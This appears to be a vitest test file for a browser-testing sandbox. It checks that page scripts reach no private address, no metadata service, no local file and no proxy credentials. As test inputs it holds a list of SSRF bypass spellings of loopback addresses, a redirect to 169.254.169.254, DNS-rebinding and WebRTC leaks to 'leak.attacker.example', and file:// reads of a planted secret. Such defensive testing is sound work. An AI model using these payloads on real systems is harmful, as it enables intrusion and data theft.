import { createSocket } from "node:dgram";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { openTestNetwork, runOn, tryOn } from "./browser-test.test-support.ts";

/** Connections to services of this computer, which stand for a private network; there must be none. */
const reached: string[] = [];
const tcp = createServer((socket) => {
	reached.push("tcp");
	socket.end("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 6\r\n\r\nsecret");
});
const udp = createSocket("udp4", () => reached.push("udp"));
let [udpPort, folder] = [0, ""];
/** The service listens where the proxy would let a public address through: the refusal is for the address, not for the port. */
let openPort = 0;

/** Whether the service got the port; another program of this machine may have it. */
const listensAt = (port: number): Promise<boolean> =>
	new Promise((resolve) => {
		tcp.once("error", () => resolve(false)).listen(port, "::", () => resolve(true));
	});

beforeAll(async () => {
	for (const port of [8443, 8080]) if (openPort === 0 && (await listensAt(port))) openPort = port;
	if (openPort === 0) throw new Error("The ports 8443 and 8080 are taken by other programs.");
	await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve));
	udpPort = udp.address().port;
	folder = await mkdtemp(join(tmpdir(), "scriptorium-private-file-"));
	await writeFile(join(folder, "secret.txt"), "thisfileisasecret");
});
beforeEach(() => void reached.splice(0));
afterAll(async () => {
	tcp.close();
	udp.close();
	await rm(folder, { recursive: true, force: true });
});

const PRIVATE_HOSTS = [
	"127.0.0.1",
	"localhost",
	"[::1]",
	"2130706433",
	"0x7f.1",
	"0177.0.0.1",
	"127.1",
	"0.0.0.0",
	"[::]",
	"[::ffff:127.0.0.1]",
	"[::ffff:7f00:1]",
	"[64:ff9b::7f00:1]",
	"[2002:7f00:1::]",
	"127.0.0.1.nip.example",
	"①②⑦.0.0.1",
	"sub.localhost",
];
const privateNames = ["127.0.0.1.nip.example"];

const openNetwork = async (pages: Parameters<typeof openTestNetwork>[0] = {}) => {
	const network = await openTestNetwork({ "site.example": "<title>Site</title><p>A page</p>", ...pages });
	for (const name of privateNames) network.addresses.set(name, [["127.0.0.1"]]);
	return network;
};

describe("a test run reaches no private address", () => {
	it("by any kind of request of script, frame, worker or window", async () => {
		const network = await openNetwork();
		const code = `
			for (const host of ${JSON.stringify(PRIVATE_HOSTS.map((host) => `${host}:${openPort}`))}) {
				for (const scheme of ['http', 'https']) {
					const to = scheme + '://' + host + '/';
					fetch(to, { mode: 'no-cors' }).catch(() => 0); new Image().src = to; navigator.sendBeacon(to, 'x');
					try { new WebSocket(to.replace('http', 'ws')) } catch { void 0 }
					try { new EventSource(to) } catch { void 0 }
					try { new WebTransport(to) } catch { void 0 }
					for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'stylesheet']) document.head.append(Object.assign(document.createElement('link'), { rel, href: to }));
					document.body.append(Object.assign(document.createElement('iframe'), { src: to }));
				}
			}
			new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:${openPort}/', { mode: 'no-cors' }).catch(() => 0)"])));
			window.open('http://127.0.0.1:${openPort}/popup');`;
		const result = await runOn(network, { code });
		expect(reached).toEqual([]);
		// The attempts were made, refused and are shown.
		const refused = result.hosts.filter((host) => host.refused !== null).map(({ host, by }) => `${host} ${by}`);
		expect(refused).toEqual(
			expect.arrayContaining(["127.0.0.1 script", "[::1] script", "127.0.0.1.nip.example script"]),
		);
		expect(result.notes.join()).toContain("It opened a window");
	});

	it("as the test URL, in any spelling", async () => {
		const network = await openNetwork();
		for (const host of PRIVATE_HOSTS) {
			const tried = await tryOn(network, { code: "void 0;", testUrl: `http://${host}:${openPort}/` });
			if (tried.ok)
				expect([host, tried.value.success, tried.value.errors[0]]).toEqual([
					host,
					false,
					expect.stringContaining("public addresses only"),
				]);
			else expect([host, tried.error.code]).toEqual([host, "url_not_allowed"]);
		}
		expect(reached).toEqual([]);
	});

	it("by a redirect of the page, of a request, by markup or by the script", async () => {
		const redirect =
			(to: string): Parameters<typeof openTestNetwork>[0][string] =>
			(_request, response) =>
				response.writeHead(302, { location: to, "access-control-allow-origin": "*" }).end();
		const to = `http://127.0.0.1:${openPort}/`;
		const network = await openNetwork({
			"redirects.example": redirect(to),
			"chain.example": redirect("http://redirects.example/"),
			"refresh.example": `<meta http-equiv="refresh" content="0;url=${to}">`,
			"login.example": redirect("http://metadata.example/"),
		});
		network.addresses.set("metadata.example", [["169.254.169.254"]]);
		for (const host of ["redirects.example", "chain.example", "login.example"]) {
			const result = await runOn(network, { code: "void 0;", testUrl: `http://${host}/` });
			expect([host, result.success, result.errors[0]]).toEqual([
				host,
				false,
				expect.stringContaining("public addresses only"),
			]);
		}
		await runOn(network, { code: "void 0;", testUrl: "http://refresh.example/" });
		await runOn(network, {
			code: "fetch('http://chain.example/').catch(() => 0); new Image().src = 'http://redirects.example/';",
		});
		await runOn(network, { code: `location.href = ${JSON.stringify(to)};` });
		expect(reached).toEqual([]);
	});

	it("by a name whose address changes between check and connection, or that has a private address among others", async () => {
		const network = await openNetwork({
			"rebinds.example": (_request, response) => {
				network.addresses.set("rebinds.example", [["127.0.0.1"]]);
				response.writeHead(200, { "content-type": "text/html" }).end("<p>first</p>");
			},
		});
		network.addresses.set("mixed.example", [["93.184.215.14", "127.0.0.1"]]);
		network.addresses.set("six.example", [["::ffff:127.0.0.1"]]);
		const code = `
			for (let turn = 0; turn < 5; turn++) for (const host of ['rebinds', 'mixed', 'six'])
				fetch('http://' + host + '.example:${openPort}/?' + turn, { mode: 'no-cors', cache: 'no-store', keepalive: false }).catch(() => 0);`;
		const result = await runOn(network, { code, testUrl: "http://rebinds.example/" });
		expect(reached).toEqual([]);
		expect(result.hosts.find(({ host }) => host === "mixed.example")?.refused).toContain("public addresses only");
	});

	it("by a service worker, by peer connections, or by looking up names", async () => {
		const network = await openNetwork({
			"localhost.example": "<p>page</p>",
			"site.example/worker.js": (_request, response) =>
				response
					.writeHead(200, { "content-type": "text/javascript" })
					.end(`addEventListener('install', () => fetch('http://127.0.0.1:${openPort}/', { mode: 'no-cors' }))`),
		});
		const ice = `{ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${openPort}?transport=tcp', username: 'u', credential: 'c' }, { urls: 'stun:leak.attacker.example:${udpPort}' }], iceCandidatePoolSize: 2 }`;
		const code = `
			navigator.serviceWorker?.register('/worker.js').catch(() => 0);
			const frame = document.body.appendChild(document.createElement('iframe'));
			for (const world of [window, frame.contentWindow]) {
				const peer = new world.RTCPeerConnection(${ice});
				peer.createDataChannel('x');
				peer.createOffer().then((offer) => peer.setLocalDescription(offer));
				peer.onicecandidate = ({ candidate }) => candidate && console.log('candidate', candidate.candidate);
			}
			for (const rel of ['dns-prefetch', 'preconnect']) document.head.append(Object.assign(document.createElement('link'), { rel, href: '//' + rel + '.attacker.example' }));`;
		const result = await runOn(network, { code });
		expect(reached).toEqual([]);
		expect(result.logs.filter(({ message }) => /candidate/.test(message) && !/\.local /.test(message))).toEqual([]);
		// A name is looked up by the proxy, for a connection that it makes, or not at all.
		expect(network.resolved).not.toContain("dns-prefetch.attacker.example");
		expect(network.resolved).not.toContain("leak.attacker.example");
	});

	it("through the proxy itself, whose credentials no page and no server gets", async () => {
		const credentials: (string | undefined)[] = [];
		const asks: Parameters<typeof openTestNetwork>[0][string] = (request, response) => {
			credentials.push(request.headers["proxy-authorization"], request.headers.authorization);
			response
				.writeHead(407, { "proxy-authenticate": 'Basic realm="again"', "www-authenticate": 'Basic realm="me"' })
				.end("credentials?");
		};
		const network = await openNetwork({ "asks.example": asks, "asks.example/image": asks });
		const result = await runOn(network, {
			code: "new Image().src = 'http://asks.example/image'; fetch('http://asks.example/', { mode: 'no-cors' }).catch(() => 0);",
			testUrl: "http://asks.example/",
		});
		expect(credentials.length).toBeGreaterThan(0);
		expect(credentials.filter((value) => value !== undefined)).toEqual([]);
		expect(result.networkRequests.find(({ url }) => url === "http://asks.example/")?.status).not.toBe(407);
	});
});

describe("a test run is alone", () => {
	it("sees nothing of another run: cookies, storage, databases, caches, service workers", async () => {
		const network = await openNetwork();
		const write = `
			document.cookie = 'who=first; max-age=9999'; localStorage.who = 'first'; sessionStorage.who = 'first'; window.name = 'first';
			return Promise.all([
				new Promise((resolve) => { const open = indexedDB.open('first'); open.onsuccess = open.onerror = resolve; }),
				window.caches ? caches.open('first') : 0,
			]);`;
		const read = `
			return Promise.all([indexedDB.databases(), window.caches ? caches.keys() : []]).then(([databases, keys]) =>
				console.log('seen:' + JSON.stringify([document.cookie, localStorage.who ?? null, sessionStorage.who ?? null, window.name, databases.map(({ name }) => name), keys])));`;
		const inFunction = (body: string) => `(async () => {${body}})()`;
		await runOn(network, { code: inFunction(write) });
		const result = await runOn(network, { code: inFunction(read) });
		expect(result.logs.map(({ message }) => message)).toContain('seen:["",null,null,"",[],[]]');
		expect(network.heard.filter((line) => line.includes("cookie="))).toEqual([]);
	});

	it("has no window around it, and a frame that navigates the top only moves the run's own page", async () => {
		const network = await openNetwork({
			"framing.example": "<iframe src='http://inner.example/'></iframe>",
			"inner.example": "<script>setTimeout(() => { top.location = 'http://elsewhere.example/'; }, 300)</script>",
			"elsewhere.example": "<title>Elsewhere</title>",
		});
		const result = await runOn(network, {
			code: "console.log([parent === window, top === window, opener, window.frameElement, typeof chrome?.runtime, typeof require].join());",
			testUrl: "http://framing.example/",
		});
		expect(result.logs[0]?.message).toBe("true,true,,,undefined,undefined");
	});

	it("reads no file and no page of the browser", async () => {
		const network = await openNetwork();
		const file = `file://${folder}/secret.txt`;
		for (const testUrl of [
			file,
			"chrome://version",
			"view-source:http://site.example/",
			"javascript:alert(1)",
			"data:text/html,x",
			"about:blank",
			"http://user:pass@site.example/",
		])
			expect([testUrl, await tryOn(network, { code: "void 0;", testUrl })]).toEqual([
				testUrl,
				expect.objectContaining({ ok: false }),
			]);
		const code = `
			fetch(${JSON.stringify(file)}).then((r) => r.text()).then((t) => console.log(t)).catch(() => 0);
			const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(file)}); x.onload = () => console.log(x.responseText); try { x.send() } catch { void 0 }
			document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(file)} }));
			window.open(${JSON.stringify(file)}); location.href = ${JSON.stringify(file)};`;
		const result = await runOn(network, { code });
		expect(JSON.stringify(result)).not.toContain("thisfileisasecret");
		expect(result.page.url).toBe("http://site.example/");
	});
});
